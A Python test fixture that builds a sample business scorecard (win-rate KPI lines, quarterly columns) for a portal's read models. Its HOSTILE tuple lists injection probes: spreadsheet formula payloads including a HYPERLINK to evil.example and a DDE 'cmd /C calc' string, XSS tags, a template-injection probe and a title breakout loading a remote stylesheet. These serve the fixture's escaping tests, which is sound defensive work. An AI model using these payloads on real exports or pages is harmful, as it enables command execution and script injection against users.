"""A scorecard made by hand, with texts that would do harm where they are taken at their word."""

from portal.readmodels.cards import Change, Finding, Head, HeatCell, Spark, Status, Tone
from portal.readmodels.scorecard import Column, Downloads, Line, Scorecard, Section

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x","click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "  =1+1",
    "\uff1d1+1",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{7*7}} {% raw %}",
    "</title><link rel=stylesheet href=http://evil.example/x.css>",
    "plain",
)


def line(name: str = "Win rate", **more: object) -> Line:
    told = {
        "key": "win_rate",
        "name": name,
        "unit": "%",
        "measured": "ratio",
        "href": "/kpis/win_rate",
        "owner": "Sales",
        "target": "27.0",
        "aimed": 0.27,
        "cells": (
            HeatCell("25.0", 1, "a title"),
            HeatCell("none", None, "no closed deals"),
            HeatCell("22.6", None, "so far", open=True),
        ),
        "numbers": (0.25, None, 0.226),
        "status": Status(Tone.BAD, "Off target"),
        "score": "1.6",
        "scored": 1.63,
        "weight": "20",
        "change": Change("\u22122.4\u00a0pp", "vs Q2", Tone.BAD, up=False),
        "spark": Spark((0.25, None, 0.226), summary="Win rate"),
        "fact": "Win rate fell.",
        "cause": "North explains all of it.",
    }
    return Line(**{**told, **more})


def card(*lines: Line, name: str = "Faster growth") -> Scorecard:
    section = Section(
        "growth",
        name,
        "Do we win?",
        "5.2",
        5.2,
        Status(Tone.WATCH, "Watch"),
        "All 1 KPIs",
        lines or (line(),),
    )
    columns = (Column("2026-Q2", "Q2", "2026"), Column("2026-Q3", "Q3"))
    return Scorecard(
        Head("Scorecard"),
        Finding("A fact.", "A cause."),
        (*columns, Column("2026-Q4", "Q4", "so far", open=True)),
        (section,),
        (("Win rate by value", "no rows"),),
        (),
        ("A note.",),
        Downloads(),
        "Whole company",
        "Q3 2026 and before.",
    )
